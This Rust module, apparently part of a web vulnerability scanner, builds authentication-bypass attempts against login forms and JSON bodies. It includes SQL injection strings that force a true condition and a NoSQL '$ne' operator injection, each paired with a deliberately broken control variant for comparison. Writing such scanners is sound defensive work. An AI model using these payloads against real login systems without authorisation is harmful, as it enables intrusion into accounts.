//! What is written into a login to be let in without a password.

use crate::context::Context;
use crate::forms::{self, Form};
use crate::inputs::with_json;
use crate::oracle::leaves::plain_key;
use crate::step::Request;
use serde_json::{Value, json};

/// Names of the input that says who comes, best first.
const USERS: [&str; 10] = [
    "username",
    "email",
    "user",
    "login",
    "mail",
    "name",
    "userid",
    "phone",
    "identifier",
    "account",
];

/// One way in, and the same with a fault in it.
#[derive(Debug)]
pub(super) struct Attempt {
    pub(super) request: Request,
    pub(super) broken: Request,
    /// How it is written, for the record.
    pub(super) example: &'static str,
}

/// Texts that end a quoted value and make the condition true, `{w}` a random word; and the same with
/// an operator no database knows.
const TEXTS: [(&str, &str); 6] = [
    ("' OR '{w}'='{w}' -- ", "' ORR '{w}'='{w}' -- "),
    ("' OR '{w}'='{w}", "' ORR '{w}'='{w}"),
    ("') OR ('{w}'='{w}' -- ", "') ORR ('{w}'='{w}' -- "),
    ("' OR '{w}'='{w}' # ", "' ORR '{w}'='{w}' # "),
    ("\" OR \"{w}\"=\"{w}\" -- ", "\" ORR \"{w}\"=\"{w}\" -- "),
    ("' || '{w}'=='{w}", "' ||| '{w}'=='{w}"),
];

/// Every way that is tried, the likeliest first.
pub(super) fn attempts(
    ctx: &Context<'_>,
    model: &Request,
    user: &str,
    secret: &str,
) -> Vec<Attempt> {
    let word = ctx.nonces.word("word", 7);
    let mut all = Vec::new();
    let operators = |operator: &str| {
        if let Some(form) = Form::of_request(model) {
            let without = forms::without(&forms::without(model, form, user), form, secret);
            let named = |pointer: &str| format!("{pointer}[{operator}]");
            let one = forms::with_value(&without, form, &named(user), &word);
            Some(forms::with_value(&one, form, &named(secret), &word))
        } else {
            let one = with_json(model, user, json!({ operator: word }))?;
            with_json(&one, secret, json!({ operator: word }))
        }
    };
    if let (Some(request), Some(broken)) = (operators("$ne"), operators("$nee")) {
        all.push(Attempt { request, broken, example: "{\"$ne\": x}" });
    }
    for (text, fault) in TEXTS {
        let filled = |text: &str| {
            let text = text.replace("{w}", &word);
            // A name nobody has, so that the condition alone decides whom it lets in.
            fill(model, user, &format!("{word}{text}"), secret, &format!("{word}{text}"))
        };
        if let (Some(request), Some(broken)) = (filled(text), filled(fault)) {
            all.push(Attempt { request, broken, example: text });
        }
    }
    all
}

/// The place of the name, or of the password, in the body.
pub(super) fn field(model: &Request, is_secret: bool) -> Option<String> {
    let body = model.body.as_deref()?;
    let names: Vec<String> = if let Some(form) = Form::of_request(model) {
        form.fields(body).into_iter().map(|(name, _)| name).collect()
    } else {
        let body: Value = serde_json::from_str(body).ok()?;
        body.as_object()?.keys().cloned().collect()
    };
    let found = if is_secret {
        let secret = |name: &&String| {
            let key = plain_key(name);
            key.contains("pass") || key == "pwd" || key == "pin" || key == "secret"
        };
        names.iter().find(secret)
    } else {
        USERS.iter().find_map(|user| names.iter().find(|name| plain_key(name) == *user))
    };
    found.map(|name| format!("/{}", name.replace('~', "~0").replace('/', "~1")))
}

/// The login with those two texts in it.
pub(super) fn fill(
    model: &Request,
    user: &str,
    name: &str,
    secret: &str,
    password: &str,
) -> Option<Request> {
    if let Some(form) = Form::of_request(model) {
        let one = forms::with_value(model, form, user, name);
        Some(forms::with_value(&one, form, secret, password))
    } else {
        let one = with_json(model, user, Value::String(name.to_owned()))?;
        with_json(&one, secret, Value::String(password.to_owned()))
    }
}
